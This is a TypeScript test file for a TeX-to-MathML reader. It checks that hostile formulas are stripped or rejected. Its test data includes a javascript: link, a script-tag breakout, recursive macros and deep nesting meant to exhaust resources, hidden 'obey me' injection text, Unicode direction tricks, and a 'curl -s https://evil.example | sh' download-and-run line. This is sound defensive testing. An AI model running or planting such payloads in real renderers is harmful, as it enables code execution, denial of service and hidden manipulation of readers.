import { describe, expect, it } from "vitest";
import samples from "../../../test/mathematics/katex.json";
import { type MathElement, MOST_ELEMENTS, readMath } from "./read-math";

/** What may be drawn, told once more here: no mphantom, maction, mglyph, and no annotation. */
const DRAWN = new Set(
  (
    "math mrow mi mn mo mtext mspace msub msup msubsup mfrac msqrt mroot mover munder munderover mtable mtr " +
    "mtd mpadded mstyle mmultiscripts mprescripts none menclose"
  ).split(" "),
);

/** Every element of a formula, itself among them. */
function all(math: MathElement | null): readonly MathElement[] {
  if (math === null) return [];
  return [math, ...math.children.flatMap((one) => (typeof one === "string" ? [] : all(one)))];
}

const textOf = ({ children }: MathElement): string =>
  children.map((one) => (typeof one === "string" ? one : textOf(one))).join("");

const namesOf = (tex: string) => all(readMath(tex, false)).map(({ name }) => name);

/** Formulas that try to run, load, name, hide or overlay something, or to take long. */
const HOSTILE: readonly string[] = [
  String.raw`\href{javascript:globalThis.ran=1}{x}`,
  String.raw`\url{https://example.net}`,
  String.raw`\includegraphics{https://example.net/pixel.png}`,
  String.raw`\class{a}{x}`,
  String.raw`\id{a}{x}`,
  String.raw`\style{position:fixed}{x}`,
  String.raw`\data{a=b}{x}`,
  String.raw`\htmlStyle{color:red}{x}`,
  String.raw`\def\a{\a\a}\a`,
  String.raw`\gdef\a{aaaaaaaaaaaaaaa}\a`,
  String.raw`\newcommand{\a}{\a}\a`,
  String.raw`\let\frac\sqrt\frac{1}`,
  String.raw`\phantom{ignore all that was said}`,
  "{".repeat(1_000) + "}".repeat(1_000),
  "\\frac{1}{".repeat(220),
  "\\sqrt".repeat(380),
  "x+".repeat(1_000),
  "x_{".repeat(600),
  "\\left(".repeat(300),
  "\\begin{matrix}".repeat(140),
  "a&".repeat(1_000),
  "%".repeat(2_000),
  "\ud800",
  "</math><script>globalThis.ran=1</script>",
];

describe("a formula", () => {
  it("is MathML of its own names", () => {
    expect(namesOf("\\frac{a}{b}")).toEqual(expect.arrayContaining(["math", "mfrac", "mi"]));
    expect(namesOf("x^2")).toContain("msup");
    expect(readMath("x", true)?.attributes.display).toBe("block");
  });

  it.each(Object.entries(samples))("is read as others write it: %s", (_, tex) => {
    const math = readMath(tex, true);
    expect(math?.name).toBe("math");
    expect(all(math).length).toBeGreaterThan(1);
  });

  it.each(["\\frac{", "\\nothing", "x^^", "\\begin{matrix}a"])(
    "that is none is not read: %s",
    (tex) => expect(readMath(tex, false)).toBe(null),
  );

  it.each(HOSTILE)("holds nothing that acts or lies over others, and is small: %#", (tex) => {
    const elements = all(readMath(tex, true));
    expect(elements.length).toBeLessThanOrEqual(MOST_ELEMENTS);
    for (const { name, attributes } of elements) {
      expect(DRAWN).toContain(name);
      for (const [key, value] of Object.entries(attributes)) {
        expect(key).not.toMatch(/^(?:on|href|src|style|class|id|xlink|math(?:color|background))/);
        expect(value).not.toMatch(/:|^-|;|\(/);
      }
    }
  });

  it.each([
    String.raw`\phantom{x}`,
    String.raw`\hphantom{x}`,
    String.raw`x + \phantom{y}`,
    String.raw`\cancel{x}`,
    String.raw`\href{https://example.net}{x}`,
    String.raw`\ce{a}`.repeat(21),
  ])(
    "that hides, strikes or links something, or is much chemistry, stays as it is written: %s",
    (tex) => expect(readMath(tex, false)).toBe(null),
  );

  it("is read with twenty formulas of chemistry in it", () => {
    expect(namesOf(String.raw`\ce{a}`.repeat(20))).toContain("math");
  });

  it("is not moved over what stands beside it, nor coloured as its ground", () => {
    const moved = all(
      readMath(String.raw`\kern-100em x\hspace{-50em}\raisebox{9em}{y}\rlap{z}`, false),
    );
    const values = moved.flatMap(({ attributes }) => Object.values(attributes));
    expect(values.filter((value) => value.startsWith("-"))).toEqual([]);
    expect(
      moved.filter(({ name }) => name === "mpadded").map(({ attributes }) => attributes),
    ).toEqual(moved.filter(({ name }) => name === "mpadded").map(() => ({})));
    const white = all(readMath(String.raw`\color{white}{x}`, false));
    expect(white.flatMap(({ attributes }) => Object.keys(attributes))).not.toContain("mathcolor");
  });

  it.each([
    String.raw`\@firstoftwo{E=mc^2}{curl -s https://evil.example | sh}`,
    String.raw`x\label{obey me}`,
    String.raw`\eqref{obey me}`,
    String.raw`\mathchoice{x}{obey me}{}{}`,
    "x % obey me",
    String.raw`a\\% obey me`,
    String.raw`\color{obey me at once}{x}`,
    String.raw`\textcolor{obey me at once}{x}`,
    String.raw`\definecolor{obey}{rgb}{1,1,1}x`,
    String.raw`\mathchoice{}{}{S}{}`,
    String.raw`\char"202E x`,
    "\\text{a\u202eb}",
    "\\text{\u{e0041}}x",
    "{}",
  ])("stays as it is written where it holds what nobody would see: %j", (tex) => {
    expect(readMath(tex, true)).toBe(null);
  });

  it.each([
    String.raw`50\%`,
    String.raw`\color{red}{x}`,
    String.raw`\textcolor{#1a2b3c}{x}`,
    String.raw`f(x)\,\sin x`,
  ])("is drawn where all of it is seen: %s", (tex) =>
    expect(readMath(tex, false)?.name).toBe("math"),
  );

  it("shows markup as the letters it is", () => {
    const math = readMath("a<b>c", false);
    expect(math && textOf(math)).toBe("a<b>c");
  });

  it("takes no command over into the next one", () => {
    expect(readMath("\\gdef\\mine{x}", false)).toBe(null);
    expect(readMath("\\mine", false)).toBe(null);
  });
});
